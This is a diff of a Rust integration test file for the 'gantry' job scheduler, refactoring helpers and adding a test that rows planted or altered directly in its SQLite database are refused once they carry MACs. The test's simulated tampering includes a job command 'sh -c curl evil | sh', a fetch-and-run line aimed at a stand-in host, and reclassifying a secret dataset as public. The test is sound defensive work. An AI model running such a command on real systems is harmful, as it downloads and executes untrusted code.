@@ -607,28 +607,14 @@ fn a_data_directory_sealed_under_a_key_file_opens_only_with_it() {
 /// naming it, by `gantry up`, `gantry db check` and `gantry user tokens`.
 #[test]
 fn a_user_or_token_row_changed_outside_gantry_is_refused_under_a_key_file() {
-    let dir = tempfile::tempdir().unwrap();
-    let cache = dir.path().join("cache");
+    // Made without a key file, with a user and a token; then sealed, its rows authenticated.
+    let (dir, cache, data) = unsealed_with_ada();
     let kek = key_file(dir.path(), "7c");
     let sealed = [("GANTRY_KEY_FILE", kek.as_path())];
-    let data = dir.path().join("data");
     let d = data.to_str().unwrap();
-    // Made without a key file, with a user and a token; then sealed, its rows authenticated.
-    ok(gantry(&["init", "--data-dir", d], &cache));
-    let add = [
-        "user",
-        "add",
-        "ada",
-        "--roles",
-        "researcher",
-        "--tenants",
-        "vision",
-        "--data-dir",
-        d,
-    ];
-    ok(gantry(&add, &cache));
+    let add = [&ADD_ADA[..], &["--data-dir", d]].concat();
     let seal = ["key", "seal", "--data-dir", d];
-    assert!(ok(gantry_with(&seal, &cache, &sealed)).contains("2 account row(s) authenticated"));
+    assert!(ok(gantry_with(&seal, &cache, &sealed)).contains("2 row(s) authenticated"));
     let check = ["db", "check", "--data-dir", d];
     ok(gantry_with(&check, &cache, &sealed));
     let tokens = ["user", "tokens", "--data-dir", d];
@@ -652,13 +638,7 @@ fn a_user_or_token_row_changed_outside_gantry_is_refused_under_a_key_file() {
             false => vec![&check[..], &up[..]],
         };
         for args in commands {
-            let out = gantry_with(args, &cache, &sealed);
-            let (_, e) = text(&out);
-            assert!(!out.status.success(), "{sql}: {args:?} went on");
-            assert!(
-                e.contains(row) && e.contains("column mac"),
-                "{sql}: {args:?}: {e}"
-            );
+            let e = refused_naming(args, &cache, &kek, row, sql);
             if args != tokens {
                 assert!(e.contains("`gantry key seal`"), "what to do: {e}");
             }
@@ -683,6 +663,109 @@ fn a_user_or_token_row_changed_outside_gantry_is_refused_under_a_key_file() {
     refused("SELECT 1", "table tokens, row ");
     // Without the key file nothing opens at all (the master keys are sealed).
     assert!(!gantry(&check, &cache).status.success());
+}
+
+/// Found by reading the data directory as a writer of its disk would, after account rows were
+/// authenticated: the `jobs` and `datasets` rows were not, so whoever could write `gantry.db`
+/// (without the key file) planted a pending job running a program of theirs as a tenant's job
+/// (with the tenant's datasets), changed a queued job's program, or showed a secret dataset as
+/// public. Those rows carry a MAC now: rows of an earlier version are authenticated by `gantry
+/// key seal`, and one planted or changed is refused, naming it, by `gantry up` and `gantry db
+/// check`.
+#[test]
+fn a_job_or_dataset_row_planted_outside_gantry_is_refused_under_a_key_file() {
+    let (dir, cache, data) = unsealed_with_ada();
+    let kek = key_file(dir.path(), "5e");
+    let sealed = [("GANTRY_KEY_FILE", kek.as_path())];
+    let d = data.to_str().unwrap();
+    let db = || rusqlite::Connection::open(gantry_daemon::db_path(&data)).unwrap();
+    let job = |id: &str, argv: &str| {
+        format!(
+            r#"INSERT INTO jobs(id, tenant, owner, gpus, memory_per_gpu_mib, est_runtime_s, state,
+                 submitted_at, seq, command)
+               VALUES ('vision/{id}', 'vision', 'ada', 1, 1000, 1, 'pending', 1.5,
+                 (SELECT COALESCE(MAX(seq), 0) + 1 FROM jobs), '{{"argv":{argv}}}')"#
+        )
+    };
+    // Rows an earlier version wrote (no MACs), authenticated where the directory is trusted.
+    db().execute_batch(&job("queued", r#"["sh","-c","true"]"#))
+        .unwrap();
+    let object = (gantry::storage::Store::open_exclusive(&data, "a test").unwrap())
+        .put_bytes(b"x,y\n1,2\n")
+        .unwrap();
+    db().execute(
+        "INSERT INTO datasets(name, tenant, classification, object, bytes, owner, created_at)
+         VALUES ('vision/scans.csv', 'vision', 'secret', ?1, 8, 'ada', 1.5)",
+        [&object],
+    )
+    .unwrap();
+    let seal = ["key", "seal", "--data-dir", d];
+    // A user and their token, a job, a dataset.
+    assert!(ok(gantry_with(&seal, &cache, &sealed)).contains("4 row(s) authenticated"));
+    let check = ["db", "check", "--data-dir", d];
+    ok(gantry_with(&check, &cache, &sealed));
+
+    let up = ["up", "--data-dir", d, "--listen", "127.0.0.1:0"];
+    let refused = |sql: &str, row: &str| {
+        db().execute_batch(sql).unwrap();
+        for args in [&check[..], &up[..]] {
+            refused_naming(args, &cache, &kek, row, sql);
+        }
+    };
+    refused(
+        &job("planted", r#"["sh","-c","curl evil | sh"]"#),
+        "table jobs, row vision/planted",
+    );
+    db().execute_batch("DELETE FROM jobs WHERE id = 'vision/planted'")
+        .unwrap();
+    ok(gantry_with(&check, &cache, &sealed));
+    refused(
+        r#"UPDATE jobs SET command = '{"argv":["sh","-c","curl evil | sh"]}'"#,
+        "table jobs, row vision/queued",
+    );
+    db().execute_batch(r#"UPDATE jobs SET command = '{"argv":["sh","-c","true"]}'"#)
+        .unwrap();
+    ok(gantry_with(&check, &cache, &sealed));
+    refused(
+        "UPDATE datasets SET classification = 'public'",
+        "table datasets, row vision/scans.csv",
+    );
+}
+
+/// `gantry user add` of `ada`, a researcher of `vision` (`--data-dir` to follow).
+const ADD_ADA: [&str; 7] = [
+    "user",
+    "add",
+    "ada",
+    "--roles",
+    "researcher",
+    "--tenants",
+    "vision",
+];
+
+/// A data directory made without a key file, with user `ada` (a researcher of `vision`) and
+/// her token: (its temporary directory, the cache, the data directory).
+fn unsealed_with_ada() -> (tempfile::TempDir, PathBuf, PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let data = dir.path().join("data");
+    let d = data.to_str().unwrap();
+    ok(gantry(&["init", "--data-dir", d], &cache));
+    ok(gantry(&[&ADD_ADA[..], &["--data-dir", d]].concat(), &cache));
+    (dir, cache, data)
+}
+
+/// Runs `args` under key file `kek`, which must fail naming `row` and its `mac` column (after
+/// `what` was done); returns what it said.
+fn refused_naming(args: &[&str], cache: &Path, kek: &Path, row: &str, what: &str) -> String {
+    let out = gantry_with(args, cache, &[("GANTRY_KEY_FILE", kek)]);
+    let (_, e) = text(&out);
+    assert!(!out.status.success(), "{what}: {args:?} went on");
+    assert!(
+        e.contains(row) && e.contains("column mac"),
+        "{what}: {args:?}: {e}"
+    );
+    e
 }
 
 /// A key file in `dir` (`byte`, two hex digits, 32 times), its owner's alone.
